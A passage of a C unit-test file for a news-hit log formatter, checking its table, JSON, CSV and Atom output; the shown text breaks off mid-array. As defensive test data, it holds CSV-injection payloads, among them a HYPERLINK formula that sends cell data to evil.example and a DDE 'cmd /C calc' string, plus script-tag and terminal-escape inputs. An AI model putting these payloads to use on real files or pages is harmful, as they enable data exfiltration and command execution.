#define _XOPEN_SOURCE 700
/* Unit tests for hitlog: every format printed to memory and read back. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <locale.h>
#include <wchar.h>

#include <glib.h>
#include <json-glib/json-glib.h>
#include <libxml/parser.h>
#include <libxml/tree.h>

#include "hitlog.h"

#define TITLE3 "Bold \033[31mred\033[0m title\twith a very long tail that will not fit " \
	"in a narrow terminal at all, not even close"
#define T_PUB 1732597500   /* 2024-11-26T05:05:00Z */
#define T_FOUND 1732600000 /* 2024-11-26T05:46:40Z */

/* The rows every format test prints. Strings are not owned (never freed). */
static struct fw_hit_row rows[] = {
	{
		.id = 1, .topic = "milei", .topic_name = "Milei", .feed = "tac",
		.feed_title = "The American Conservative", .item_id = "https://tac.example/?p=1",
		.title = "Milei wins", .link = "https://tac.example/milei-wins/",
		.published = T_PUB, .found = T_FOUND, .snippet = "Javier Milei won the runoff",
		.marks_json = "[[7,12]]",
		.matched_json = "[{\"field\":\"title\",\"start\":0,\"end\":5},"
		                "{\"field\":\"content\",\"start\":1234,\"end\":1239}]",
		.read = FALSE, .notified = FW_HIT_NOTIFIED_DELIVERED,
	},
	{
		.id = 22, .topic = "china-swaps", .topic_name = "China swaps", .feed = "ft",
		.feed_title = "FT, \"World\"", .item_id = "sha1:abc",
		.title = "<script>alert(1)</script> & \"swaps\",\nsecond line",
		.link = NULL, .published = FW_TIME_NONE, .found = T_FOUND + 60,
		.snippet = "Beijing, \"swap\" lines\r\nand more", .marks_json = "junk",
		.matched_json = "not json", .read = TRUE, .notified = FW_HIT_NOTIFIED_INITIAL,
	},
	{
		.id = 333, .topic = "mercosur", .topic_name = "Mercado Común del Sur", .feed = "x",
		.feed_title = NULL, .item_id = "urn:x:1",
		.title = TITLE3,
		.link = "https://x.example/a?b=1&c=2", .published = 0, .found = T_FOUND + 120,
		.snippet = "bell\a and nul-free \x01 control", .marks_json = "[[0,4],[2,6],[99,100]]",
		.matched_json = "[{\"field\":\"summary\",\"start\":2,\"end\":4,\"extra\":1},"
		                "{\"field\":3,\"start\":1,\"end\":2},{\"start\":1}]",
		.read = FALSE, .notified = FW_HIT_NOTIFIED_PENDING,
	},
};

/* The rows as the array fw_hitlog_print takes. */
static GPtrArray *rows_array(void)
{
	GPtrArray *a = g_ptr_array_new();

	for (gsize i = 0; i < G_N_ELEMENTS(rows); i++)
		g_ptr_array_add(a, &rows[i]);
	return a;
}

/* What fw_hitlog_print wrote, as a new string. */
static char *print_to_string(GPtrArray *a, enum fw_hitlog_format fmt, gboolean color,
                             guint width)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	char *copy;

	g_assert_nonnull(f);
	fw_hitlog_print(a, fmt, f, color, width);
	fclose(f);
	copy = g_strndup(buf, len);
	free(buf);
	return copy;
}

/* What fw_hitlog_show wrote, as a new string. */
static char *show_to_string(const struct fw_hit_row *r, gboolean color)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	char *copy;

	fw_hitlog_show(r, f, color);
	fclose(f);
	copy = g_strndup(buf, len);
	free(buf);
	return copy;
}

/* ---- format names ------------------------------------------------------ */

static const struct {
	const char *name;
	gboolean ok;
	enum fw_hitlog_format want;
} name_rows[] = {
	{ "table", TRUE, FW_HITLOG_TABLE },
	{ "json", TRUE, FW_HITLOG_JSON },
	{ "csv", TRUE, FW_HITLOG_CSV },
	{ "atom", TRUE, FW_HITLOG_ATOM },
	{ "JSON", FALSE, 0 },
	{ "", FALSE, 0 },
	{ "xml", FALSE, 0 },
	{ NULL, FALSE, 0 },
};

static void test_format_name(void)
{
	for (gsize i = 0; i < G_N_ELEMENTS(name_rows); i++) {
		enum fw_hitlog_format f = 99;

		g_assert_cmpint(fw_hitlog_format_from_name(name_rows[i].name, &f), ==, name_rows[i].ok);
		if (name_rows[i].ok)
			g_assert_cmpint(f, ==, name_rows[i].want);
	}
}

/* ---- JSON -------------------------------------------------------------- */

/* Expected JSON per row; NULL strings are JSON null. */
static const struct {
	const char *topic_name, *feed_title, *title, *link, *published, *found, *snippet;
	const char *matched;   /* "field:start:end ..." */
	gboolean read;
	const char *notified;
} json_rows[] = {
	{ "Milei", "The American Conservative", "Milei wins", "https://tac.example/milei-wins/",
	  "2024-11-26T05:05:00Z", "2024-11-26T05:46:40Z", "Javier Milei won the runoff",
	  "title:0:5 content:1234:1239", FALSE, "delivered" },
	{ "China swaps", "FT, \"World\"", "<script>alert(1)</script> & \"swaps\",\nsecond line",
	  NULL, NULL, "2024-11-26T05:47:40Z", "Beijing, \"swap\" lines\r\nand more", "", TRUE,
	  "initial" },
	{ "Mercado Común del Sur", "x", TITLE3 /* as is: JSON escapes it */,
	  "https://x.example/a?b=1&c=2", "1970-01-01T00:00:00Z", "2024-11-26T05:48:40Z",
	  "bell\a and nul-free \x01 control", "summary:2:4", FALSE, "pending" },
};

static const char *const json_members[] = {
	"id", "story", "topic", "topic_name", "feed", "feed_title", "item_id", "title", "link",
	"published", "found", "snippet", "matched", "read", "notified",
};

/* Asserts member name of o is the string want, or null when want is NULL. */
static void assert_member(JsonObject *o, const char *name, const char *want)
{
	JsonNode *n = json_object_get_member(o, name);

	g_assert_nonnull(n);
	if (!want) {
		g_assert_true(JSON_NODE_HOLDS_NULL(n));
		return;
	}
	g_assert_cmpstr(json_node_get_string(n), ==, want);
}

static void test_json(void)
{
	g_autoptr(GPtrArray) a = rows_array();
	g_autofree char *out = print_to_string(a, FW_HITLOG_JSON, FALSE, 0);
	g_auto(GStrv) lines = g_strsplit(out, "\n", -1);

	g_assert_cmpuint(g_strv_length(lines), ==, G_N_ELEMENTS(rows) + 1);
	g_assert_cmpstr(lines[G_N_ELEMENTS(rows)], ==, "");
	for (gsize i = 0; i < G_N_ELEMENTS(rows); i++) {
		g_autoptr(JsonParser) p = json_parser_new();
		g_autoptr(GError) err = NULL;
		g_autoptr(GString) matched = g_string_new(NULL);
		g_autofree char *single = fw_hit_json(&rows[i]);
		JsonObject *o;
		JsonArray *m;

		g_test_message("json row %zu: %s", i, lines[i]);
		g_assert_cmpstr(single, ==, lines[i]);
		g_assert_true(json_parser_load_from_data(p, lines[i], -1, &err));
		g_assert_no_error(err);
		o = json_node_get_object(json_parser_get_root(p));
		g_assert_cmpuint(json_object_get_size(o), ==, G_N_ELEMENTS(json_members));
		for (gsize k = 0; k < G_N_ELEMENTS(json_members); k++)
			g_assert_true(json_object_has_member(o, json_members[k]));
		g_assert_cmpint(json_object_get_int_member(o, "id"), ==, rows[i].id);
		assert_member(o, "topic", rows[i].topic);
		assert_member(o, "topic_name", json_rows[i].topic_name);
		assert_member(o, "feed", rows[i].feed);
		assert_member(o, "feed_title", json_rows[i].feed_title);
		assert_member(o, "item_id", rows[i].item_id);
		assert_member(o, "title", json_rows[i].title);
		assert_member(o, "link", json_rows[i].link);
		assert_member(o, "published", json_rows[i].published);
		assert_member(o, "found", json_rows[i].found);
		assert_member(o, "snippet", json_rows[i].snippet);
		g_assert_cmpint(json_object_get_boolean_member(o, "read"), ==, json_rows[i].read);
		assert_member(o, "notified", json_rows[i].notified);
		m = json_object_get_array_member(o, "matched");
		g_assert_nonnull(m);
		for (guint k = 0; k < json_array_get_length(m); k++) {
			JsonObject *e = json_array_get_object_element(m, k);

			g_assert_cmpuint(json_object_get_size(e), ==, 3);
			g_string_append_printf(matched, "%s%s:%" G_GINT64_FORMAT ":%" G_GINT64_FORMAT,
			                       k ? " " : "", json_object_get_string_member(e, "field"),
			                       json_object_get_int_member(e, "start"),
			                       json_object_get_int_member(e, "end"));
		}
		g_assert_cmpstr(matched->str, ==, json_rows[i].matched);
	}
}

/* Invalid UTF-8 from a database still gives valid JSON. */
static void test_json_invalid_utf8(void)
{
	struct fw_hit_row r = rows[0];
	g_autoptr(JsonParser) p = json_parser_new();
	g_autofree char *line = NULL;

	r.title = "caf\xe9 \xff";
	line = fw_hit_json(&r);
	g_assert_true(g_utf8_validate(line, -1, NULL));
	g_assert_true(json_parser_load_from_data(p, line, -1, NULL));
}

/* ---- CSV --------------------------------------------------------------- */

/* Reads RFC 4180 text into records (GPtrArray of GPtrArray of char *). */
static GPtrArray *csv_parse(const char *s)
{
	GPtrArray *records = g_ptr_array_new_with_free_func((GDestroyNotify)g_ptr_array_unref);
	GPtrArray *rec = g_ptr_array_new_with_free_func(g_free);
	GString *field = g_string_new(NULL);
	const char *p = s;

	while (*p) {
		if (*p == '"') {
			for (p++; *p; p++) {
				if (p[0] == '"' && p[1] == '"') {
					g_string_append_c(field, '"');
					p++;
				} else if (*p == '"') {
					p++;
					break;
				} else {
					g_string_append_c(field, *p);
				}
			}
		}
		if (*p == ',') {
			g_ptr_array_add(rec, g_strdup(field->str));
			g_string_truncate(field, 0);
			p++;
		} else if (p[0] == '\r' && p[1] == '\n') {
			g_ptr_array_add(rec, g_strdup(field->str));
			g_string_truncate(field, 0);
			g_ptr_array_add(records, rec);
			rec = g_ptr_array_new_with_free_func(g_free);
			p += 2;
		} else if (*p) {
			g_assert_cmpint(*p, !=, '"');    /* a quote inside an unquoted field */
			g_assert_cmpint(*p, !=, '\n');   /* a bare LF ends nothing */
			g_string_append_c(field, *p++);
		}
	}
	g_assert_cmpuint(field->len, ==, 0);   /* the last record ended with CRLF */
	g_assert_cmpuint(rec->len, ==, 0);
	g_ptr_array_unref(rec);
	g_string_free(field, TRUE);
	return records;
}

static const char *const csv_want[][14] = {
	{ "id", "story", "topic", "topic_name", "feed", "feed_title", "item_id", "title", "link",
	  "published", "found", "snippet", "read", "notified" },
	{ "1", "1", "milei", "Milei", "tac", "The American Conservative", "https://tac.example/?p=1",
	  "Milei wins", "https://tac.example/milei-wins/", "2024-11-26T05:05:00Z",
	  "2024-11-26T05:46:40Z", "Javier Milei won the runoff", "false", "delivered" },
	{ "22", "22", "china-swaps", "China swaps", "ft", "FT, \"World\"", "sha1:abc",
	  "<script>alert(1)</script> & \"swaps\",\nsecond line", "", "", "2024-11-26T05:47:40Z",
	  "Beijing, \"swap\" lines\r\nand more", "true", "initial" },
	{ "333", "333", "mercosur", "Mercado Común del Sur", "x", "x", "urn:x:1", TITLE3,
	  "https://x.example/a?b=1&c=2", "1970-01-01T00:00:00Z", "2024-11-26T05:48:40Z",
	  "bell\a and nul-free \x01 control", "false", "pending" },
};

/* s with each control character (CR, LF and tab too) made one space: what
 * CSV prints of a field (issue 16: no raw control reaches the terminal). */
static char *spaced(const char *s)
{
	char *out = g_strdup(s);
	for (char *p = out; *p; p++)
		if ((guchar)*p < 0x20)
			*p = ' ';
	return out;
}

static void test_csv(void)
{
	g_autoptr(GPtrArray) a = rows_array();
	g_autofree char *out = print_to_string(a, FW_HITLOG_CSV, FALSE, 0);
	g_autoptr(GPtrArray) recs = csv_parse(out);

	g_assert_cmpuint(recs->len, ==, G_N_ELEMENTS(csv_want));
	for (gsize i = 0; i < G_N_ELEMENTS(csv_want); i++) {
		GPtrArray *rec = recs->pdata[i];

		g_assert_cmpuint(rec->len, ==, 14);
		for (gsize k = 0; k < 14; k++) {
			g_autofree char *want = spaced(csv_want[i][k]);
			g_assert_cmpstr(rec->pdata[k], ==, want);
		}
	}
	/* no control but the CRLF line ends */
	for (const char *p = out; *p; p++)
		if ((guchar)*p < 0x20)
			g_assert_true((p[0] == '\r' && p[1] == '\n') || (p[0] == '\n' && p[-1] == '\r'));
	/* the quoting itself: quotes doubled, the field quoted */
	g_assert_nonnull(strstr(out, ",\"FT, \"\"World\"\"\","));
}

/* Fields a spreadsheet would run as formulas (OWASP "CSV Injection"): a
 * leading = + - @ (after spaces; tab and CR are spaces) gets a single quote in
 * front, inside quotes. */
static void test_csv_formula(void)
{
	static const struct {
		const char *in, *want;
	} cases[] = {
		{ "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		  "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" },
		{ "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0" },
		{ "=1+1", "'=1+1" },
		{ "+1", "'+1" },
		{ "-2+3", "'-2+3" },
		{ "\t=1", "' =1" },     /* controls are spaces in CSV (issue 16) */
		{ "\r=1", "' =1" },
		{ "  @x", "'  @x" },
		{ "a=1", "a=1" },
		{ "'quoted", "'quoted" },
		{ "", "" },
	};

	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		struct fw_hit_row r = rows[0];
		g_autoptr(GPtrArray) a = g_ptr_array_new();
		g_autofree char *out = NULL;
		g_autoptr(GPtrArray) recs = NULL;
		GPtrArray *rec;

		r.title = (char *)cases[i].in;
		r.item_id = (char *)cases[i].in;
		r.snippet = (char *)cases[i].in;
		g_ptr_array_add(a, &r);
		out = print_to_string(a, FW_HITLOG_CSV, FALSE, 0);
		recs = csv_parse(out);
		g_assert_cmpuint(recs->len, ==, 2);
		rec = recs->pdata[1];
		g_assert_cmpstr(rec->pdata[6], ==, cases[i].want);
		g_assert_cmpstr(rec->pdata[7], ==, cases[i].want);
		g_assert_cmpstr(rec->pdata[11], ==, cases[i].want);
		/* a neutralised field is quoted, so the quote cannot be lost */
		if (cases[i].want[0] == '\'' && cases[i].in[0] != '\'')
			g_assert_nonnull(strstr(out, ",\"'"));
	}
}

static void test_csv_empty(void)
{
	g_autoptr(GPtrArray) a = g_ptr_array_new();
	g_autofree char *out = print_to_string(a, FW_HITLOG_CSV, FALSE, 0);

	g_assert_cmpstr(out, ==, "id,story,topic,topic_name,feed,feed_title,item_id,title,link,"
	                "published,found,snippet,read,notified\r\n");
}

/* ---- Atom -------------------------------------------------------------- */

/* The text of the first child element of node named name, or NULL. */
static char *child_text(xmlNodePtr node, const char *name)
{
	for (xmlNodePtr c = node->children; c; c = c->next) {
		if (c->type == XML_ELEMENT_NODE && !strcmp((const char *)c->name, name)) {
			xmlChar *t = xmlNodeGetContent(c);
			char *copy = g_strdup((const char *)t);

			xmlFree(t);
			return copy;
		}
	}
	return NULL;
}

/* The attribute attr of the first child named name, or NULL. */
static char *child_attr(xmlNodePtr node, const char *name, const char *attr)
{
	for (xmlNodePtr c = node->children; c; c = c->next) {
		if (c->type == XML_ELEMENT_NODE && !strcmp((const char *)c->name, name)) {
			xmlChar *t = xmlGetProp(c, BAD_CAST attr);
			char *copy = g_strdup((const char *)t);

			xmlFree(t);
			return copy;
		}
	}
	return NULL;
}

static const struct {
	const char *id, *title, *link, *updated, *summary;
	gboolean content;   /* no link: the entry carries content */
} atom_want[] = {
	{ "urn:feedwatch:hit:1", "[Milei] Milei wins", "https://tac.example/milei-wins/",
	  "2024-11-26T05:46:40Z", "Javier Milei won the runoff", FALSE },
	{ "urn:feedwatch:hit:22", "[China swaps] <script>alert(1)</script> & \"swaps\",\nsecond line",
	  NULL, "2024-11-26T05:47:40Z", "Beijing, \"swap\" lines\r\nand more", TRUE },
	/* control characters XML forbids are dropped (tab, CR, LF kept) */
	{ "urn:feedwatch:hit:333", "[Mercado Común del Sur] Bold [31mred[0m title\twith a very "
	  "long tail that will not fit in a narrow terminal at all, not even close",
	  "https://x.example/a?b=1&c=2", "2024-11-26T05:48:40Z", "bell and nul-free  control",
	  FALSE },
};

static void test_atom(void)
{
	g_autoptr(GPtrArray) a = rows_array();
	g_autofree char *out = print_to_string(a, FW_HITLOG_ATOM, FALSE, 0);
	xmlDocPtr doc = xmlReadMemory(out, (int)strlen(out), "hits.xml", NULL, XML_PARSE_NONET);
	xmlNodePtr root;
	gsize n = 0;

	g_test_message("%s", out);
	g_assert_nonnull(doc);   /* well-formed */
	root = xmlDocGetRootElement(doc);
	g_assert_cmpstr((const char *)root->name, ==, "feed");
	g_assert_cmpstr((const char *)root->ns->href, ==, "http://www.w3.org/2005/Atom");
	{
		g_autofree char *id = child_text(root, "id");
		g_autofree char *title = child_text(root, "title");
		g_autofree char *updated = child_text(root, "updated");

		g_assert_cmpstr(id, ==, "urn:feedwatch:hits");
		g_assert_cmpstr(title, ==, "feedwatch hits");
		g_assert_cmpstr(updated, ==, "2024-11-26T05:48:40Z");   /* the newest found */
	}
	for (xmlNodePtr e = root->children; e; e = e->next) {
		g_autofree char *id = NULL, *title = NULL, *link = NULL, *updated = NULL;
		g_autofree char *summary = NULL, *content = NULL, *term = NULL;

		if (e->type != XML_ELEMENT_NODE || strcmp((const char *)e->name, "entry"))
			continue;
		g_assert_cmpuint(n, <, G_N_ELEMENTS(atom_want));
		id = child_text(e, "id");
		title = child_text(e, "title");
		link = child_attr(e, "link", "href");
		updated = child_text(e, "updated");
		summary = child_text(e, "summary");
		content = child_text(e, "content");
		term = child_attr(e, "category", "term");
		g_assert_cmpstr(id, ==, atom_want[n].id);
		g_assert_cmpstr(title, ==, atom_want[n].title);
		g_assert_cmpstr(link, ==, atom_want[n].link);
		g_assert_cmpstr(updated, ==, atom_want[n].updated);
		g_assert_cmpstr(summary, ==, atom_want[n].summary);
		g_assert_cmpint(content != NULL, ==, atom_want[n].content);
		g_assert_cmpstr(term, ==, rows[n].topic);
		n++;
	}
	g_assert_cmpuint(n, ==, G_N_ELEMENTS(atom_want));
	/* the hostile title is text, never markup */
	g_assert_null(strstr(out, "<script>"));
	g_assert_nonnull(strstr(out, "&lt;script&gt;alert(1)&lt;/script&gt; &amp;"));
	xmlFreeDoc(doc);
}

static void test_atom_empty(void)
{
	g_autoptr(GPtrArray) a = g_ptr_array_new();
	g_autofree char *out = print_to_string(a, FW_HITLOG_ATOM, FALSE, 0);
	xmlDocPtr doc = xmlReadMemory(out, (int)strlen(out), "hits.xml", NULL, XML_PARSE_NONET);

	g_assert_nonnull(doc);
	g_assert_null(strstr(out, "<entry"));
	g_assert_nonnull(strstr(out, "<updated>"));
	xmlFreeDoc(doc);
}

/* ---- table ------------------------------------------------------------- */

/* Terminal columns of s. */
static guint columns(const char *s)
{
	guint w = 0;

	for (const char *p = s; *p; p = g_utf8_next_char(p))
		w += g_unichar_iswide(g_utf8_get_char(p)) ? 2 : 1;
	return w;
}

static const struct {
	guint width;
	const char *want;  /* the whole table, or NULL to check widths only */
} table_rows[] = {
	{ 80,
	  "   ID DATE         FEED         TITLE                              TOPICS\n"
	  "    1 2024-11-26   The Americ…  Milei wins                         Milei\n"
	  "   22 2024-11-26   FT, \"World\"  <script>alert(1)</script> & \"swa…  China swaps\n"
	  "  333 1970-01-01   x            Bold  [31mred [0m title with a v…  Mercado Comú…\n" },
	{ 100,
	  "   ID DATE         FEED            TITLE                                            TOPICS\n"
	  "    1 2024-11-26   The American …  Milei wins                                       Milei\n"
	  "   22 2024-11-26   FT, \"World\"     <script>alert(1)</script> & \"swaps\", second li…  "
	  "China swaps\n"
	  "  333 1970-01-01   x               Bold  [31mred [0m title with a very long tail …  "
	  "Mercado Común d…\n" },
	{ 140, NULL },
	{ 60, NULL },
	{ 0, NULL },   /* 100 */
};

static void test_table(void)
{
	g_autoptr(GPtrArray) a = rows_array();

	for (gsize i = 0; i < G_N_ELEMENTS(table_rows); i++) {
		g_autofree char *out = print_to_string(a, FW_HITLOG_TABLE, FALSE, table_rows[i].width);
		g_auto(GStrv) lines = g_strsplit(out, "\n", -1);
		guint width = table_rows[i].width ? table_rows[i].width : 100;

		g_test_message("width %u:\n%s", width, out);
		if (table_rows[i].want)
			g_assert_cmpstr(out, ==, table_rows[i].want);
		g_assert_cmpuint(g_strv_length(lines), ==, G_N_ELEMENTS(rows) + 2);
		g_assert_null(strchr(out, '\033'));
		g_assert_null(strchr(out, '\t'));
		g_assert_null(strchr(out, '\a'));
		for (guint k = 0; lines[k]; k++)
			g_assert_cmpuint(columns(lines[k]), <=, width);
	}
}

/* Stories at 80 columns: a story of two topics in two feeds is one row;
 * wide characters (CJK, emoji) and long topic lists keep the columns. */
#define T_S 1732600000
#define PESO "🇦🇷 Peso falls 😱 again"
static struct fw_hit_row story_rows[] = {
	{ .id = 5, .story = 5, .topic = "milei", .topic_name = "Milei", .feed = "tac",
	  .feed_title = "The American Conservative", .title = "Milei and Mercosur sign the deal",
	  .published = T_S - 3600, .found = T_S },
	{ .id = 6, .story = 5, .topic = "mercosur", .topic_name = "Mercosur", .feed = "tac",
	  .feed_title = "The American Conservative", .title = "Milei and Mercosur sign the deal",
	  .published = T_S - 3600, .found = T_S, .read = TRUE },
	{ .id = 9, .story = 5, .topic = "milei", .topic_name = "Milei", .feed = "mp",
	  .feed_title = "MercoPress", .title = "Milei, Mercosur sign", .published = T_S - 1800,
	  .found = T_S + 600 },
	{ .id = 7, .story = 7, .topic = "china", .topic_name = "China swaps", .feed = "xh",
	  .feed_title = "新华网", .title = "中国与阿根廷续签货币互换协议，规模达到一千三百亿元人民币，为期三年",
	  .published = FW_TIME_NONE, .found = T_S - 7200, .read = TRUE },
	/* published after found (a clock ahead): the date is found */
	{ .id = 8, .story = 8, .topic = "a", .topic_name = "Argentina economy", .feed = "x",
	  .title = PESO, .published = T_S + 99999, .found = T_S - 9000 },
	{ .id = 10, .story = 8, .topic = "b", .topic_name = "Inflation", .feed = "x", .title = PESO,
	  .published = T_S + 99999, .found = T_S - 9000 },
	{ .id = 11, .story = 8, .topic = "c", .topic_name = "Central bank", .feed = "x",
	  .title = PESO, .published = T_S + 99999, .found = T_S - 9000 },
	{ .id = 12, .story = 8, .topic = "d", .topic_name = "IMF", .feed = "x", .title = PESO,
	  .published = T_S + 99999, .found = T_S - 9000 },
};

static const struct {
	guint width;
	const char *want[5];   /* the lines, without their trailing blanks */
} story_tables[] = {
	{ 80, {
	  "   ID DATE         FEED         TITLE                              TOPICS",
	  "    5 2024-11-26   The Ame… +1  Milei and Mercosur sign the deal   Milei +1",
	  "    7 2024-11-26   新华网       中国与阿根廷续签货币互换协议，规…  China swaps",
	  "    8 2024-11-26   x            " PESO "             Argentina… +3",
	  NULL } },
	{ 132, {
	  "   ID DATE         FEED                TITLE                                             "
	  "                     TOPICS",
	  "    5 2024-11-26   The American C… +1  Milei and Mercosur sign the deal                  "
	  "                     Milei, Mercosur",
	  "    7 2024-11-26   新华网              中国与阿根廷续签货币互换协议，规模达到一千三百亿元"
	  "人民币，为期三年     China swaps",
	  "    8 2024-11-26   x                   " PESO "                                          "
	  "       Argentina economy +3",
	  NULL } },
};

/* Display columns by the C library's wcwidth (not the code under test's). */
static int wc_columns(const char *s)
{
	int w = 0;

	for (const char *p = s; *p; p = g_utf8_next_char(p)) {
		int c = wcwidth((wchar_t)g_utf8_get_char(p));

		w += c < 0 ? 1 : c;
	}
	return w;
}

static void test_table_stories(void)
{
	g_autoptr(GPtrArray) a = g_ptr_array_new();

	for (gsize i = 0; i < G_N_ELEMENTS(story_rows); i++)
		g_ptr_array_add(a, &story_rows[i]);
	for (gsize i = 0; i < G_N_ELEMENTS(story_tables); i++) {
		g_autofree char *out = print_to_string(a, FW_HITLOG_TABLE, FALSE, story_tables[i].width);
		g_auto(GStrv) lines = g_strsplit(out, "\n", -1);
		struct fw_hitlog_layout l;
		guint k;

		g_test_message("stories at %u:\n%s", story_tables[i].width, out);
		fw_hitlog_layout(story_tables[i].width, &l);
		for (k = 0; story_tables[i].want[k]; k++) {
			g_autofree char *line = g_strchomp(g_strdup(lines[k]));
			g_autofree char *head = NULL;
			const char *topics;

			g_assert_cmpstr(line, ==, story_tables[i].want[k]);
			g_assert_cmpint(wc_columns(lines[k]), <=, (int)story_tables[i].width);
			/* TOPICS starts at the same column on every line, by wcwidth */
			topics = g_utf8_offset_to_pointer(lines[k], g_utf8_strlen(lines[k], -1));
			while (topics > lines[k] && !(topics[-1] == ' ' && topics[-2] == ' '))
				topics--;
			head = g_strndup(lines[k], topics - lines[k]);
			g_assert_cmpint(wc_columns(head), ==,
			                (int)(l.id + 1 + l.date + 2 + l.feed + 2 + l.title + 2));
		}
		g_assert_cmpstr(lines[k], ==, "");
		g_assert_null(lines[k + 1]);
	}
}

static void test_table_color(void)
{
	g_autoptr(GPtrArray) a = rows_array();
	g_autoptr(GPtrArray) none = g_ptr_array_new();
	g_autofree char *out = print_to_string(a, FW_HITLOG_TABLE, TRUE, 100);
	g_autofree char *empty = print_to_string(none, FW_HITLOG_TABLE, TRUE, 100);

	g_assert_true(g_str_has_prefix(out, "\033[1m   ID DATE"));
	g_assert_nonnull(strstr(out, "\033[1mMilei wins   "));      /* unread: bold */
	g_assert_null(strstr(out, "\033[31m"));                         /* the feed's own: gone */
	g_assert_cmpstr(empty, ==, "");
}

/* ---- show and marks ---------------------------------------------------- */

static const struct {
	const char *snippet, *marks, *want_color;
} show_rows[] = {
	{ "Javier Milei won", "[[7,12]]", "Javier \033[1mMilei\033[0m won" },
	{ "Común Milei", "[[0,5],[6,11]]", "\033[1mComún\033[0m \033[1mMilei\033[0m" },
	/* overlapping and out of range marks are skipped */
	{ "abcdef", "[[0,4],[2,6],[5,99]]", "\033[1mabcd\033[0mef" },
	/* unsorted marks are sorted */
	{ "one two three", "[[8,13],[0,3]]", "\033[1mone\033[0m two \033[1mthree\033[0m" },
	{ "no marks", "junk", "no marks" },
	{ "no marks", NULL, "no marks" },
	{ "nul", "[[-1,2],[2,1],[1.5,2],[\"a\",1],[0]]", "nul" },
	/* a control character in the snippet keeps offsets (one space) */
	{ "a\033b Milei", "[[4,9]]", "a b \033[1mMilei\033[0m" },
};

static void test_show(void)
{
	for (gsize i = 0; i < G_N_ELEMENTS(show_rows); i++) {
		struct fw_hit_row r = rows[0];
		g_autofree char *color = NULL, *plain = NULL, *want_plain = NULL;
		g_autoptr(GRegex) strip = g_regex_new("\033\\[[0-9]*m", 0, 0, NULL);

		r.snippet = (char *)show_rows[i].snippet;
		r.marks_json = (char *)show_rows[i].marks;
		color = show_to_string(&r, TRUE);
		plain = show_to_string(&r, FALSE);
		want_plain = g_regex_replace_literal(strip, show_rows[i].want_color, -1, 0, "", 0,
		                                     NULL);
		g_test_message("show row %zu:\n%s", i, color);
		g_assert_nonnull(strstr(color, show_rows[i].want_color));
		g_assert_nonnull(strstr(plain, want_plain));
		g_assert_null(strchr(plain, '\033'));
	}
}

static void test_show_fields(void)
{
	struct fw_hit_row r = rows[1];
	g_autofree char *out = NULL;

	r.summary = "First paragraph.\n\nSecond \033]0;evil\007 paragraph.";
	r.author = "Jane";
	out = show_to_string(&r, FALSE);
	g_test_message("%s", out);
	g_assert_true(g_str_has_prefix(out, "Hit 22 · China swaps (china-swaps) · read · "
	                               "notified: initial\n"));
	g_assert_nonnull(strstr(out, "\nTitle:     <script>alert(1)</script> & \"swaps\", second line\n"));
	g_assert_nonnull(strstr(out, "\nFeed:      FT, \"World\" (ft)\n"));
	g_assert_nonnull(strstr(out, "\nAuthor:    Jane\n"));
	g_assert_nonnull(strstr(out, "\nFound:     2024-11-26 05:47\n"));
	g_assert_null(strstr(out, "Published:"));
	g_assert_null(strstr(out, "Link:"));
	g_assert_nonnull(strstr(out, "\nSummary:\n  First paragraph.\n\n  Second  ]0;evil  paragraph.\n"));
	g_assert_null(strchr(out, '\033'));
	g_assert_null(strchr(out, '\007'));
	r = rows[0];
	g_free(out);
	out = show_to_string(&r, FALSE);
	g_assert_nonnull(strstr(out, "\nMatched:   title 0–5 · content 1234–1239\n"));
	g_assert_nonnull(strstr(out, "\nPublished: 2024-11-26 05:05\n"));
	g_assert_nonnull(strstr(out, "\nLink:      https://tac.example/milei-wins/\n"));
}

/* The Matched: line of show, from matched_json. */
static const struct {
	const char *json, *want;
} matched_rows[] = {
	{ "[{\"field\":\"title\",\"start\":0,\"end\":5}]", "title 0–5" },
	{ "[{\"field\":\"content\",\"start\":1,\"end\":2},{\"field\":\"title\",\"start\":3,"
	  "\"end\":4},{\"field\":\"content\",\"start\":5,\"end\":6}]",
	  "content 1–2, 5–6 · title 3–4" },
	{ "[{\"field\":\"content\",\"start\":1,\"end\":2},{\"field\":\"content\",\"start\":3,\"end\":4},"
	  "{\"field\":\"content\",\"start\":5,\"end\":6},{\"field\":\"content\",\"start\":7,\"end\":8},"
	  "{\"field\":\"content\",\"start\":9,\"end\":10},{\"field\":\"content\",\"start\":11,\"end\":12},"
	  "{\"field\":\"content\",\"start\":13,\"end\":14}]",
	  "content 1–2, 3–4, 5–6, 7–8, 9–10 and 2 more" },
	{ "[{\"field\":\"title\",\"start\":\"0\",\"end\":5},{\"field\":null,\"start\":0,\"end\":5}]",
	  NULL },
	{ "[]", NULL },
	{ "nonsense", NULL },
};

static void test_show_matched(void)
{
	for (gsize i = 0; i < G_N_ELEMENTS(matched_rows); i++) {
		struct fw_hit_row r = rows[0];
		g_autofree char *out = NULL, *want = NULL;

		r.matched_json = (char *)matched_rows[i].json;
		out = show_to_string(&r, FALSE);
		if (matched_rows[i].want) {
			want = g_strdup_printf("\nMatched:   %s\n", matched_rows[i].want);
			g_assert_nonnull(strstr(out, want));
		} else {
			g_assert_null(strstr(out, "Matched:"));
		}
	}
}


/* The Matched: line without verbose: the words the snippet marks, then
 * those matched elsewhere in the title, summary and content, each once. */
static const struct {
	const char *title, *summary, *snippet, *marks, *matched, *want;
} word_rows[] = {
	{ "Beijing extends swap line", NULL, "the China swap deal", "[[4,9],[10,14]]",
	  "[{\"field\":\"title\",\"start\":0,\"end\":7},{\"field\":\"title\",\"start\":16,\"end\":20},"
	  "{\"field\":\"content\",\"start\":4,\"end\":9}]", "China, swap, Beijing" },
	{ "x", "Milei and MILEI and Mileí", "none marked", "[]",
	  "[{\"field\":\"summary\",\"start\":0,\"end\":5},{\"field\":\"summary\",\"start\":10,\"end\":15},"
	  "{\"field\":\"summary\",\"start\":20,\"end\":25},{\"field\":\"summary\",\"start\":20,\"end\":99}]",
	  "Milei, Mileí" },
	{ "a b c d e f g h i j k l m n", NULL, "", "[]",
	  "[{\"field\":\"title\",\"start\":0,\"end\":1},{\"field\":\"title\",\"start\":2,\"end\":3},"
